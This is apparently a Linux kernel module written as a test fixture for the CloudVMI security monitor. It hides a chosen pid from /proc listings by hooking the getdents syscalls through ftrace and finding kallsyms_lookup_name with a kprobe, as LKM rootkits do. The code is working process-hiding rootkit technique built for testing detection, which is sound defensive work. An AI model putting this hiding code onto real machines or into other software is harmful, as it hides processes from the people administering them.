// SPDX-License-Identifier: GPL-2.0
/*
 * cloudvmi_hide - TEST FIXTURE that hides one pid from /proc listings the way
 * common LKM rootkits (Diamorphine, Reptile, ...) do, so that CloudVMI's
 * security monitor can be tested against it. Never load it on a machine that
 * matters.
 *
 * While loaded, the directory entry "<hide_pid>" is removed from what
 * getdents64(2) and getdents(2) return for the root directory of any procfs
 * mount: ls /proc, ps, top and pgrep no longer see the process. Nothing else
 * is touched on purpose: the process keeps running, and a lookup by name
 * (stat /proc/<pid>, open /proc/<pid>/status, kill -0 <pid>) still works.
 * That discrepancy between listing and lookup is what the monitor detects.
 *
 * Technique: an ftrace hook on the syscall wrappers __x64_sys_getdents64 and
 * __x64_sys_getdents. The ftrace callback rewrites the saved instruction
 * pointer (FTRACE_OPS_FL_IPMODIFY) so that the call lands in our wrapper,
 * which calls the original and filters the user buffer it filled. Patching
 * sys_call_table, the older rootkit method, no longer works on 6.1 stable
 * kernels: since the x86 BHI fixes, syscalls are dispatched through a switch
 * (x64_sys_call) that calls the wrappers directly.
 */

#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/atomic.h>
#include <linux/delay.h>
#include <linux/dirent.h>
#include <linux/file.h>
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/magic.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/mount.h>
#include <linux/rcupdate.h>
#include <linux/slab.h>
#include <linux/stddef.h>
#include <linux/uaccess.h>

static int hide_pid;
module_param(hide_pid, int, 0444);
MODULE_PARM_DESC(hide_pid, "pid whose /proc/<pid> entry is hidden from directory listings");

/* Decimal form of hide_pid: the name of its entry in the proc root. */
static char hide_name[16];
static size_t hide_name_len;

/*
 * Number of tasks inside one of our wrappers. Module exit waits for it to
 * drop to zero: a task can sleep inside the original syscall (page fault on
 * the user buffer, directory lock) with a return address into this module.
 */
static atomic_t in_flight = ATOMIC_INIT(0);

/*
 * Entry of the legacy getdents(2) buffer; the kernel's definition is private
 * to fs/readdir.c. d_type is stored in the last byte of each record.
 */
struct linux_dirent {
	unsigned long	d_ino;
	unsigned long	d_off;
	unsigned short	d_reclen;
	char		d_name[];
};

typedef long (*syscall_fn_t)(const struct pt_regs *regs);
typedef unsigned long (*kallsyms_lookup_name_t)(const char *name);

struct hook {
	const char *name;	/* symbol to hook */
	syscall_fn_t wrapper;	/* where calls to it are sent */
	size_t name_off;	/* offset of d_name in its records */
	syscall_fn_t orig;	/* address of the symbol */
	struct ftrace_ops ops;
	bool installed;
};

static long hide_getdents64(const struct pt_regs *regs);
static long hide_getdents(const struct pt_regs *regs);

static struct hook hooks[] = {
	{
		.name = "__x64_sys_getdents64",
		.wrapper = hide_getdents64,
		.name_off = offsetof(struct linux_dirent64, d_name),
	},
	{
		.name = "__x64_sys_getdents",
		.wrapper = hide_getdents,
		.name_off = offsetof(struct linux_dirent, d_name),
	},
};

/*
 * True if @fd is the root directory of a procfs mount, the only directory
 * whose listing we filter: a file called "1234" elsewhere stays visible.
 */
static bool fd_is_proc_root(unsigned int fd)
{
	struct fd f = fdget(fd);
	bool ret;

	if (!f.file)
		return false;
	ret = f.file->f_path.dentry == f.file->f_path.mnt->mnt_root &&
	      f.file->f_path.dentry->d_sb->s_magic == PROC_SUPER_MAGIC;
	fdput(f);
	return ret;
}

/*
 * Removes the record named hide_name from the @len bytes of directory records
 * at @ubuf, whose names start at @name_off in each record. Returns the new
 * length, or -EFAULT. Both record layouts keep d_reclen at the same offset,
 * so one walker serves both syscalls.
 */
static long filter_dirents(void __user *ubuf, long len, size_t name_off)
{
	char *kbuf;
	long off = 0;

	BUILD_BUG_ON(offsetof(struct linux_dirent, d_reclen) !=
		     offsetof(struct linux_dirent64, d_reclen));

	kbuf = kvmalloc(len, GFP_KERNEL);
	if (!kbuf)
		return len;	/* fail open: a visible pid beats lost entries */
	if (copy_from_user(kbuf, ubuf, len)) {
		kvfree(kbuf);
		return -EFAULT;
	}

	while (off < len) {
		struct linux_dirent64 *d = (struct linux_dirent64 *)(kbuf + off);
		unsigned short reclen;
		size_t max;

		/* Never trust a layout we did not expect: leave the rest alone. */
		if (len - off < name_off)
			break;
		reclen = d->d_reclen;
		if (reclen <= name_off || reclen > len - off)
			break;

		max = reclen - name_off;
		if (strnlen(kbuf + off + name_off, max) == hide_name_len &&
		    !memcmp(kbuf + off + name_off, hide_name, hide_name_len)) {
			/* The entry is gone: later ones move up. */
			memmove(kbuf + off, kbuf + off + reclen, len - off - reclen);
			len -= reclen;
			/* A name occurs once per directory: done. */
			break;
		}
		off += reclen;
	}

	if (copy_to_user(ubuf, kbuf, len))
		len = -EFAULT;
	kvfree(kbuf);
	return len;
}

/*
 * Body of both wrappers. Must not end in a tail call to the original: the
 * ftrace callback recognises our own call by its return address in this
 * module, and a tail call would have the kernel's caller as return address
 * and loop back here. The filtering after the call rules that out.
 */
static long hooked_getdents(const struct hook *h, const struct pt_regs *regs)
{
	long ret;

	atomic_inc(&in_flight);
	for (;;) {
		ret = h->orig(regs);
		if (ret <= 0 || !fd_is_proc_root(regs->di))
			break;
		ret = filter_dirents((void __user *)regs->si, ret, h->name_off);
		/*
		 * If the hidden entry was all this call returned, 0 would tell
		 * the caller the directory ended, and it would miss the pids
		 * after it: read on instead (the file position has moved).
		 */
		if (ret != 0)
			break;
	}
	atomic_dec(&in_flight);
	return ret;
}

static long hide_getdents64(const struct pt_regs *regs)
{
	return hooked_getdents(&hooks[0], regs);
}

static long hide_getdents(const struct pt_regs *regs)
{
	return hooked_getdents(&hooks[1], regs);
}

/* Runs at the entry of the hooked function, with its registers saved. */
static void notrace hook_callback(unsigned long ip, unsigned long parent_ip,
				  struct ftrace_ops *ops,
				  struct ftrace_regs *fregs)
{
	struct hook *h = container_of(ops, struct hook, ops);
	struct pt_regs *regs = ftrace_get_regs(fregs);

	/* Our wrapper calling the original: let it run. */
	if (!regs || within_module(parent_ip, THIS_MODULE))
		return;
	regs->ip = (unsigned long)h->wrapper;
}

/*
 * kallsyms_lookup_name() is not exported since 5.7; a kprobe on it still
 * resolves its address, which is how current rootkits find it.
 */
static kallsyms_lookup_name_t find_kallsyms_lookup_name(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long addr;

	if (register_kprobe(&kp) < 0)
		return NULL;
	addr = (unsigned long)kp.addr;
	unregister_kprobe(&kp);
	return (kallsyms_lookup_name_t)addr;
}

static int install_hook(struct hook *h, kallsyms_lookup_name_t lookup)
{
	unsigned long addr = lookup(h->name);
	int err;

	if (!addr) {
		pr_err("symbol %s not found\n", h->name);
		return -ENOENT;
	}
	h->orig = (syscall_fn_t)addr;
	h->ops.func = hook_callback;
	/*
	 * SAVE_REGS + IPMODIFY: we change the saved ip. RECURSION: ftrace
	 * guards the callback against recursion for us.
	 */
	h->ops.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION |
		       FTRACE_OPS_FL_IPMODIFY;

	err = ftrace_set_filter_ip(&h->ops, addr, 0, 0);
	if (err) {
		pr_err("ftrace_set_filter_ip(%s) failed: %d\n", h->name, err);
		return err;
	}
	err = register_ftrace_function(&h->ops);
	if (err) {
		pr_err("register_ftrace_function(%s) failed: %d\n", h->name, err);
		ftrace_free_filter(&h->ops);
		return err;
	}
	h->installed = true;
	return 0;
}

static void remove_hook(struct hook *h)
{
	int err;

	if (!h->installed)
		return;
	/* Also waits until no CPU is still in hook_callback(). */
	err = unregister_ftrace_function(&h->ops);
	if (err)
		pr_err("unregister_ftrace_function(%s) failed: %d\n", h->name, err);
	ftrace_free_filter(&h->ops);
	h->installed = false;
}

static void remove_hooks(void)
{
	int i;

	for (i = ARRAY_SIZE(hooks) - 1; i >= 0; i--)
		remove_hook(&hooks[i]);

	/*
	 * A task may have been sent to a wrapper just before the hook went
	 * away and be preempted before counting itself in in_flight. Tasks-RCU
	 * waits for every such task to schedule voluntarily or return to user
	 * space, which it cannot do before reaching atomic_inc().
	 */
	synchronize_rcu_tasks();
	while (atomic_read(&in_flight))
		msleep(20);
	/* The same for tasks preempted between atomic_dec() and their return. */
	synchronize_rcu_tasks();
}

static int __init cloudvmi_hide_init(void)
{
	kallsyms_lookup_name_t lookup;
	int i, err;

	if (hide_pid <= 0) {
		pr_err("hide_pid=%d: give the pid to hide, e.g. hide_pid=1234\n",
		       hide_pid);
		return -EINVAL;
	}
	hide_name_len = scnprintf(hide_name, sizeof(hide_name), "%d", hide_pid);

	lookup = find_kallsyms_lookup_name();
	if (!lookup) {
		pr_err("cannot resolve kallsyms_lookup_name\n");
		return -ENOENT;
	}

	for (i = 0; i < ARRAY_SIZE(hooks); i++) {
		err = install_hook(&hooks[i], lookup);
		if (err) {
			remove_hooks();
			return err;
		}
	}
	pr_info("hiding pid %d from /proc listings (test fixture)\n", hide_pid);
	return 0;
}

static void __exit cloudvmi_hide_exit(void)
{
	remove_hooks();
	pr_info("pid %d visible again\n", hide_pid);
}

module_init(cloudvmi_hide_init);
module_exit(cloudvmi_hide_exit);

MODULE_DESCRIPTION("CloudVMI test fixture: hides a pid from /proc listings like an LKM rootkit");
MODULE_AUTHOR("CloudVMI");
/* GPL: the ftrace, kprobe and tasks-RCU symbols are EXPORT_SYMBOL_GPL. */
MODULE_LICENSE("GPL");
